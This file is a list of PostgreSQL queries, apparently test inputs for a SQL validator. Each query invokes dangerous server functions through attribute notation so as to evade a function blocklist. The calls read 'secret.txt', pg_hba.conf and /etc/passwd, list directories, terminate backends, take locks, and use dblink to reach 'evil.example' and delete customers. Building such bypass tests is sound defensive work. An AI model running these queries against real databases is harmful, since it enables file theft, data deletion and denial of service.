select ('secret.txt'::text).pg_read_file
select ('secret.txt'::text).pg_read_binary_file
select (text 'pg_hba.conf').pg_read_file
select ('/'::text).pg_ls_dir
select * from (select ('/'::text).pg_ls_dir) files
select ('secret.txt'::text).pg_stat_file
select (('secret.txt'::text).pg_stat_file).size
select (4711).pg_advisory_lock
select (4711::bigint).pg_try_advisory_lock
select ((4711)).pg_try_advisory_lock_shared
select (array[4711::bigint])[1].pg_advisory_lock
select ('{4711}'::bigint[])[1].pg_advisory_lock
select (select 4711::bigint).pg_advisory_lock
select (row(4711::bigint)).f1.pg_advisory_lock
select ((row(4711::bigint)).f1).pg_advisory_lock
select (case when true then 4711::bigint end).pg_advisory_lock
select (coalesce(null, 4711::bigint)).pg_advisory_lock
select (max(id)::bigint).pg_advisory_lock from customers
select (c.id::bigint).pg_advisory_lock from customers c
select (id).pg_advisory_lock from customers
select n.pg_advisory_lock from generate_series(1, 3) as n
select n.pg_advisory_lock from generate_series(1, 3) as n(m)
select generate_series.pg_advisory_lock from generate_series(1, 3)
select unnest.pg_try_advisory_lock from unnest(array[4711::bigint])
select abs.pg_try_advisory_lock from abs(4711::bigint)
select n.pg_try_advisory_lock from rows from (generate_series(1::bigint, 3)) as n
select * from customers c, lateral generate_series(1::bigint, c.id) as n where n.pg_try_advisory_lock
select greatest.pg_try_advisory_lock from greatest(4711::bigint, 2)
select coalesce.pg_try_advisory_lock from coalesce(4711::bigint)
select int8.pg_try_advisory_lock from cast(4711 as int8)
select (select n.pg_try_advisory_lock from generate_series(1::bigint, 2) n) from customers n
select f.pg_read_file from unnest(array['secret.txt']) as f
select f.pg_ls_dir from coalesce('/'::text) as f
select (f).pg_read_file from unnest(array['secret.txt']) as f
select f.f.pg_read_file from unnest(array['secret.txt']) as f
select ('s'::regclass).nextval
select ('s'::regclass).currval
select ('public.s'::regclass).nextval from generate_series(1, 100)
select s.nextval from cast('s' as regclass) as s
select (4711::oid).lo_get
select (4711::oid).lo_unlink
select (0::oid).lo_create
select ('/etc/passwd'::text).lo_import
select (16384::oid).pg_stat_reset_single_table_counters
select ('bgwriter'::text).pg_stat_reset_shared
select (pid).pg_terminate_backend from pg_stat_activity where pid <> pg_backend_pid()
select (pid).pg_cancel_backend from pg_stat_activity where pid <> pg_backend_pid()
select (pg_backend_pid()).pg_log_backend_memory_contexts
select ('struck'::name).pg_create_physical_replication_slot
select ('struck'::name).pg_drop_replication_slot
select ('struck'::text).pg_replication_origin_create
select ('struck'::text).pg_create_restore_point
select ('struck'::text).pg_start_backup
select ('struck'::text).pg_backup_start
select (0.5::float8).setseed
select (5::float8).pg_sleep
select (interval '5 s').pg_sleep_for
select (now() + interval '5 s').pg_sleep_until
select ('host=evil.example'::text).dblink_connect
select ('delete from customers'::text).dblink_exec
select ('select 1'::text).dblink
select ('select to_tsvector(''a'')'::text).ts_stat
select ('customers'::regclass).pg_prewarm
select ('customers'::regclass).pg_truncate_visibility_map
select ('orders_pkey'::regclass).bt_index_check
select ('i'::regclass).brin_summarize_new_values
select ('i'::regclass).gin_clean_pending_list
select (true).isn_weak
select * from customers where (id::bigint).pg_try_advisory_lock
select * from customers order by (id::bigint).pg_advisory_lock_shared
select count(*) filter (where (id::bigint).pg_try_advisory_lock) from customers
select * from customers c join orders o on (o.id::bigint).pg_try_advisory_lock
values (('secret.txt'::text).pg_read_file)
select array(select ('secret.txt'::text).pg_read_file)
with x as (select ('secret.txt'::text).pg_read_file) select * from x
select xmlelement(name a, ('secret.txt'::text).pg_read_file)
select json_array(('secret.txt'::text).pg_read_file)
select (json_value('"secret.txt"', '$')).pg_read_file
select ('secret.txt' || '').pg_read_file
select ('secret.txt' collate "C").pg_read_file
select (('secret.txt')::text)."pg_read_file"
select (xmlserialize(content 'secret.txt' as text)).pg_read_file
select (current_user::text).pg_read_file
select (lower('SECRET.TXT')).pg_read_file
explain analyze select ('secret.txt'::text).pg_read_file
explain (analyze, format json) select n.pg_advisory_lock from generate_series(1::bigint, 3) as n
